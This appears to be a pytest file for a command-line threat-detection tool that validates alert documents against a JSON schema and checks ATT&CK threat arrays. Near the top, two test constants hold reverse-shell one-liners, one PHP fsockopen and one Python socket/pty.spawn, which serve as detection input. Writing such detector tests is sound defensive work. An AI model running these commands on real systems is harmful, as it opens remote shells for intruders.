"""Alerts against docs/alert.schema.json: the shipped sample inputs in every format, several rules,
upstream alerts; and ECS parallel arrays of equal length for every shipped rule. (Every alert any
test reads through conftest.rule_ids is validated too: the seed cases, sequences, auditd ...)"""

from __future__ import annotations

import copy
from typing import Any

import jsonschema
import msgspec
import pytest

from alert_schema import SCHEMA, check_alert, parallel_errors
from conftest import ROOT, rule_ids
from shellsieve.compile.ruleset import Ruleset
from shellsieve.diagnostics import Location
from shellsieve.model.expr import Op, Predicate
from shellsieve.model.rule import Rule, Threat
from shellsieve.run.enrich import Hit, enrich, threat_fields
from test_formats import run_lines

EXAMPLES = ROOT / "examples"
PHP = "php -r '$s=fsockopen(\"10.10.10.10\",9001);'"
BOTH = PHP + " ; python -c 'import socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'"  # noqa: E501  a verbatim command line


def _alerts(docs: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [d for d in docs if rule_ids(d)]  # rule_ids validates each


class TestSamples:
    @pytest.mark.parametrize("name", ["events.ndjson", "sysmon.ndjson", "audit.log", "cmdline.log"])
    def test_shipped_samples(self, shipped: Ruleset, name: str) -> None:
        """Every alert on the shipped sample inputs (ECS, Sysmon, auditd, command lines) validates."""
        docs, _ = run_lines(shipped, (EXAMPLES / name).read_bytes().splitlines())
        assert _alerts(docs), f"{name}: no alert"

    def test_several_rules_and_split_documents(self, shipped: Ruleset) -> None:
        """An event two rules match, and its alert documents, validate."""
        line = msgspec.json.encode({"process": {"command_line": BOTH}})
        docs, _ = run_lines(shipped, [line], alert_docs="split")
        assert len(rule_ids(docs[0])) == 2 and len(docs) == 3
        for d in docs[1:]:
            check_alert(d)

    @pytest.mark.parametrize("upstream", [{"rule": {"id": "edr-7", "name": "EDR"}},
                                          {"threat": {"framework": "MITRE ATT&CK"}}, {"rule.id": "x"}])
    def test_upstream_alert(self, shipped: Ruleset, upstream: dict[str, Any]) -> None:
        """An input that is an alert already keeps its fields and validates as an upstream alert."""
        line = msgspec.json.encode({"process": {"command_line": PHP}, **upstream})
        docs, _ = run_lines(shipped, [line])
        assert rule_ids(docs[0]) and docs[0]["shellsieve"]["upstream_alert"] is True


class TestSchema:
    def test_is_a_valid_draft_2020_12_schema(self) -> None:
        jsonschema.Draft202012Validator.check_schema(SCHEMA)

    @pytest.mark.parametrize("spoil", [
        lambda d: d["rule"].update(id=["a", "b"]),  # rule.* single-valued
        lambda d: d["event"].update(kind="event"),
        lambda d: d["threat"]["technique"].update(id="T1059"),
        lambda d: d["shellsieve"].update(alerts=[]),
        lambda d: d["shellsieve"]["alerts"][0]["rule"].update(extra=1),
    ])
    def test_rejects_other_shapes(self, spoil: Any) -> None:
        """The schema is not vacuous: a list rule.id, another event.kind, a scalar where ECS has
        parallel arrays, an empty alerts list or an unknown rule field are refused."""
        doc = enrich({}, [Hit(_rule("a", (Threat("TA0002", "Execution", "T1059", "Command"),)))])
        check_alert(copy.deepcopy(doc))
        doc = copy.deepcopy(doc)
        spoil(doc)
        with pytest.raises(AssertionError):
            check_alert(doc)


def _rule(rid: str, threats: tuple[Threat, ...]) -> Rule:
    return Rule(id=rid, name=rid, ruleset="sigma", location=Location("t"),
                query=Predicate("process.name", Op.EQ, ("x",), True), threats=threats)


class TestParallelArrays:
    def test_every_shipped_rule(self, shipped: Ruleset) -> None:
        """Each shipped rule's threat arrays (alone, and all rules together) have equal lengths and
        every id the rule names is there with a name."""
        rules = tuple(cr.rule for cr in shipped.rules)
        for r in rules:
            threat = threat_fields((r,))
            assert not parallel_errors(threat), r.id
            if threat is not None:
                for key in ("tactic", "technique"):
                    assert all(threat.get(key, {}).get("name", [])), (r.id, key)
        assert not parallel_errors(threat_fields(rules))

    def test_ids_without_names_keep_their_place(self) -> None:
        """An id neither the source nor the ATT&CK table names gets "" so that the arrays stay parallel."""
        threat = threat_fields((_rule("a", (Threat(technique_id="T9999"), Threat(tactic_name="Stealth"),
                                             Threat("TA0002", "Execution", "T1059", "Command"))),))
        assert threat is not None and not parallel_errors(threat)
        assert threat["technique"] == {"id": ["T9999", "T1059"], "name": ["", "Command"], "reference": ["", ""]}
        assert threat["tactic"]["id"] == ["TA0002"]  # a tactic without an id cannot be paired

    def test_the_check_fails_on_unequal_lengths(self) -> None:
        """The length check itself catches arrays that differ."""
        assert parallel_errors({"tactic": {"id": ["a", "b"], "name": ["A"], "reference": ["", ""]}})
